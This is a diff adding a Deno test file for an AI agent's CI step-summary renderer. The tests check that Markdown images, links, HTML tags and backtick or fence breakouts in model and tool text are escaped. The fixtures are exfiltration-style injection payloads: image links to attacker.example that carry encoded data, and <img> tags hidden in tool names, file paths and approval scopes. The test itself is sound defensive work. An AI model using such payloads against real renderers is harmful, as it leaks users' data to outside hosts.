@@ -1,0 +1,89 @@
+// The GitHub step summary (rendered as Markdown with HTML on github.com) shows the model's and the
+// tools' text as text: a summary holding an image whose address carries data, a link, raw HTML, a
+// tool name or deliverable path that ends its code span, or a replay that ends its fence, never
+// becomes markup. Near miss: plain names keep their code spans.
+import assert from "node:assert/strict";
+import { Redactor } from "../audit/mod.ts";
+import type { AgentOutcome } from "../agent/mod.ts";
+import type { PendingApproval } from "../approval/mod.ts";
+import type { ToolResult } from "../result/mod.ts";
+import { type RunReport, stepSummary } from "./_ci_output.ts";
+
+function result(tool: string, summary: string): ToolResult {
+  return {
+    tool_call_id: "c1",
+    tool,
+    ok: true,
+    summary,
+    output: "",
+    data: null,
+    artifacts: [],
+    error: null,
+    duration_ms: 3,
+  };
+}
+
+function report(results: ToolResult[], deliverables: string[], replay: string | null): RunReport {
+  const outcome: AgentOutcome = {
+    end_reason: "completed",
+    final_text: "done",
+    turns: 1,
+    results,
+    error: null,
+    usage: null,
+    error_code: null,
+    error_details: null,
+    duration_ms: 10,
+  };
+  return {
+    run_id: "r1",
+    run_dir: "/runs/r1",
+    task: "Fix ![x](https://attacker.example/t.png?task)",
+    outcome,
+    counts: { calls: results.length, denied: 0, failed: 0 },
+    deliverables,
+    pending: [],
+    replay,
+    redactor: new Redactor({ secrets: [] }),
+  };
+}
+
+Deno.test("the step summary escapes images, links, HTML and code-span or fence ends from the model and tools, and keeps plain names in code spans", () => {
+  const summary = stepSummary(report(
+    [
+      result(
+        "fs.write_file",
+        "Wrote ![a](https://attacker.example/p.png?data=c2VjcmV0) <img src=x>",
+      ),
+      result("evil`<img src=https://attacker.example/n.png>`", "[click](https://attacker.example)"),
+    ],
+    ["notes`<img src=https://attacker.example/d.png>`.md", "out.md"],
+    null,
+  ));
+  // No image, link or tag survives as markup: each `!`, `[`, `(` and `<` is escaped.
+  assert.doesNotMatch(summary, /(^|[^\\])!\[/);
+  assert.doesNotMatch(summary, /(^|[^\\])\[click\]/);
+  assert.doesNotMatch(summary, /(^|[^\\])<img/);
+  assert.ok(summary.includes("Fix \\!\\[x\\]\\(https\\:"), summary);
+  assert.ok(summary.includes("| 2 | evil\\`\\<img src=https\\:"), summary);
+  assert.ok(summary.includes("- notes\\`\\<img"), summary);
+  // Near miss: plain names are code spans, as before.
+  assert.ok(summary.includes("| 1 | `fs.write_file` | ok |"), summary);
+  assert.ok(summary.includes("- `out.md`"), summary);
+});
+
+Deno.test("the step summary's replay command sits in a fence longer than any it holds", () => {
+  const replay = "kagent-run run --task 'a\n```\n![x](https://attacker.example/r.png)\n```'";
+  const pending = {
+    grant: {
+      tool: "fs.write_file",
+      scope: ["write:<workspace>/a`<img src=https://attacker.example/g.png>`"],
+      policy: "0123456789abcdef",
+    },
+  } as unknown as PendingApproval;
+  const summary = stepSummary({ ...report([], [], replay), pending: [pending] });
+  assert.ok(summary.includes(`\`\`\`\`sh\n${replay}\n\`\`\`\``), summary);
+  // The grant's argument holds a backtick: escaped text, not a code span it could end.
+  assert.doesNotMatch(summary, /(^|[^\\])<img/);
+  assert.ok(summary.includes("\\`\\<img src=https\\:"), summary);
+});
